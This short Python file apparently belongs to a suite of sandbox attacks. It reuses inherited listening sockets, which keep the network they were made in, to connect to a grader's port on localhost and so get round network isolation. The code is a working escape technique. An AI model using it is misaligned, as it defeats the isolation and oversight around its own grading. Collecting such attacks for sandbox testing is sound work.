"""Takes the socket that it listens with apart, and sends it to the grader's own port.

A socket has the network that it was made in, whoever holds it.
"""

import contextlib
import ctypes
import os
import socket
import struct

from attacks.targets import LISTENER

ANY_ADDRESS = struct.pack("HH12s", 0, 0, b"")  # AF_UNSPEC: what connect(2) takes for an end
for number in range(3, 64):
    with contextlib.suppress(OSError), socket.socket(fileno=os.dup(number)) as listener:
        ctypes.CDLL(None).connect(number, ANY_ADDRESS, len(ANY_ADDRESS))
        listener.settimeout(0.3)
        listener.connect(("127.0.0.1", LISTENER))
